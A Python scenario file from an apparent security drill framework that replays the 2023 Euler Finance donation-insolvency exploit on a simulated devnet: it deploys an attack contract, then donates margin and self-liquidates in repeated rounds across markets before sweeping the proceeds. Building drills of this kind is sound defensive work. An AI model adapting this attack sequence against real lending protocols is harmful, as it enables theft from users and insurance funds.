"""donation-insolvency — Euler Finance, Mar 2023: a donation path without a health check leaves the
donor instantly liquidatable; the attacker liquidates its own violator for the reward, again and again,
market after market."""

from __future__ import annotations

from collections.abc import Iterator

from breakglass.devnet.venue import USD, Venue
from breakglass.drills.scenarios.base import AttackContext, Scenario, Step


class DonationInsolvency(Scenario):
    name = "donation-insolvency"
    incident = "Euler Finance, 2023-03-13 (~$197M)"
    summary = "donate margin away without a health check, self-liquidate for the reward, repeat per market"
    switches = ("donation_unchecked",)
    target_label = "insurance fund and ETH/BTC compartments"
    funding_usd = 500_000 * USD
    size = 18_000_000 * USD
    margin = 450_000 * USD
    rounds_per_tx = 8
    txs_per_market = 3
    markets = (0, 1)

    def deploy(self, ctx: AttackContext) -> Iterator[Step]:
        v = ctx.venue
        yield ctx.deploy(
            "deploy attack contract", "DonationAttack", v.usd.address, v.vault.address, v["insurance"].address
        )

    def strike(self, ctx: AttackContext) -> Iterator[Step]:
        v = ctx.venue
        attack = ctx.attack("DonationAttack")
        yield ctx.call(
            "fund attack contract", v.usd, "transfer", attack.address, self.funding_usd, wait_seconds=30
        )
        for market_id in self.markets:
            market = v.market(market_id)
            for i in range(self.txs_per_market):
                yield ctx.call(
                    f"donate-and-liquidate x{self.rounds_per_tx} on market {market_id} ({i + 1})",
                    attack,
                    "rounds",
                    market.address,
                    self.size,
                    self.margin,
                    self.rounds_per_tx,
                    gas=12_000_000,
                    wait_seconds=24,
                )
            yield ctx.call(
                f"close receiving position on market {market_id}",
                attack,
                "exit",
                market.address,
                gas=1_000_000,
                wait_seconds=12,
            )
        yield ctx.call("sweep to attacker", attack, "sweep", wait_seconds=2)

    def target(self, venue: Venue) -> int:
        b = venue.balances()
        return b.insurance + sum(b.compartments[m] for m in self.markets)
